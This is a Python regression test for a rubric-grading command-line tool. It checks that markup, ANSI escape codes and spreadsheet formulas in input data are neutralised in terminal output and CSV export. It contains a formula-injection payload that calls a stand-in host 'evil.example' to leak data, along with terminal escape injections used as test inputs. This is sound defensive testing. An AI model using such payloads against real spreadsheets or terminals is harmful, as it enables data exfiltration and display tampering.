"""Issue 18.15: model text and input tags are data, never markup: rich markup in a tag does not
crash the summary, ANSI escapes never reach the terminal, CSV cells cannot run as formulas."""

from __future__ import annotations

import csv
import json

import yaml
from typer.testing import CliRunner

from assay.cli import app
from assay.testing import FakeJudgeServer

FORMULA = '=HYPERLINK("http://evil.example/?leak=1","click me")'


def test_tags_with_markup_and_escapes_and_formula_cells_are_data(tmp_path):
    rubric = tmp_path / "rubric.yaml"
    rubric.write_text(yaml.safe_dump({"id": "r", "criteria": [
        {"id": "good", "text": "Explains the risk.", "weight": 5, "axis": "[bold]axis[/]"},
        {"id": "bad", "text": FORMULA, "weight": -3}]}))
    items = tmp_path / "items.jsonl"
    tags = ["theme:[/]evil", "theme:\x1b[2J\x1b[31mred\x1b[0m", "theme:[link=http://x]y"]
    items.write_text("".join(json.dumps({
        "id": item_id, "prompt": "Bee?", "response": "Ice.\x1b[5m blink", "tags": [tag]}) + "\n"
        for item_id, tag in zip(["+1 (555) 0100", "@sum(A1)", "q3"], tags)))
    with FakeJudgeServer.run_in_thread(policy={"good": "MET", "bad": "UNMET"}) as server:
        out = CliRunner().invoke(app, [
            "grade", str(items), "--rubric", str(rubric), "--judge",
            f"openai-compatible:fake@{server.base_url}", "--run-dir", str(tmp_path / "run"),
            "--quiet", "--export", str(tmp_path / "v.csv")])
    assert out.exit_code == 0, out.output
    assert out.exception is None
    assert "│ [/]evil " in out.output and "│ [link=http://x]y " in out.output  # the "by theme" rows
    assert "[bold]axis[/]" in out.output
    assert "\x1b" not in out.output and "\ufffd[2J" in out.output
    with (tmp_path / "v.csv").open(newline="") as handle:
        table = list(csv.DictReader(handle))
    assert {r["criterion"] for r in table} == {"Explains the risk.", "'" + FORMULA}
    assert {r["item_id"] for r in table} == {"'+1 (555) 0100", "'@sum(A1)", "q3"}
    assert {r["weight"] for r in table} == {"5.0", "-3.0"}  # numbers stay numbers
    for row in table:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
